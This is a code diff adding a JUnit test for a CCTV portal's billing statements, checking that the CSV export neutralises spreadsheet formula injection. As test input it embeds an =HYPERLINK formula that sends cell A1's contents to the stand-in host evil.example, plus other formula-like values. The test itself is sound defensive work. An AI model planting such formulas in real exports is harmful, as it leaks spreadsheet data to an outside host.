@@ -1,6 +1,7 @@
 package org.cctvportal.monitoring;
 
 import static org.junit.jupiter.api.Assertions.assertEquals;
+import static org.junit.jupiter.api.Assertions.assertFalse;
 
 import java.math.BigDecimal;
 import java.time.LocalDate;
@@ -53,5 +54,30 @@ class StatementTest {
         Statement none = Statement.build("p", "P", YearMonth.of(2027, 1), List.of(usage(1, 4, 480, 0)),
                 k -> Optional.of(tariff(Tariff.Basis.MONTHLY_FIXED, "950")));
         assertEquals(new BigDecimal("0.00"), none.total());
+    }
+
+    /** A camera group or partner name typed as a formula reaches the hub's spreadsheet as text, not as a formula. */
+    @Test
+    void theCsvNeutralisesEveryTextCell() throws Exception {
+        String formula = "=HYPERLINK(\"https://evil.example/?\"&A1,\"Open\")";
+        Statement s = Statement.build("p", "@SUM(1+1)", YearMonth.of(2027, 1), List.of(new Statement.Usage(1, "p",
+                "-Hub", 8, formula, 3, CustomerKind.PUBLIC, 480, 480)),
+                k -> Optional.of(tariff(Tariff.Basis.CAMERA_HOUR, "1.85")));
+        for (boolean totalsOnly : new boolean[] { false, true }) {
+            String csv = new StatementService().csv(List.of(s), totalsOnly);
+            try (var parser = org.apache.commons.csv.CSVFormat.DEFAULT.builder().setHeader().setSkipHeaderRecord(true)
+                    .get().parse(new java.io.StringReader(csv))) {
+                for (var record : parser.getRecords()) {
+                    for (String cell : record.values()) {
+                        assertFalse(cell.matches("^[=+@\\t\\r].*") || cell.matches("^-[^0-9].*"), cell + " in " + csv);
+                    }
+                    assertEquals("'@SUM(1+1)", record.get("partner"));
+                    if (!totalsOnly && !record.get("reference").equals("Total")) {
+                        assertEquals("'" + formula, record.get("camera_group"));
+                        assertEquals("'-Hub", record.get("hub"));
+                    }
+                }
+            }
+        }
     }
 }
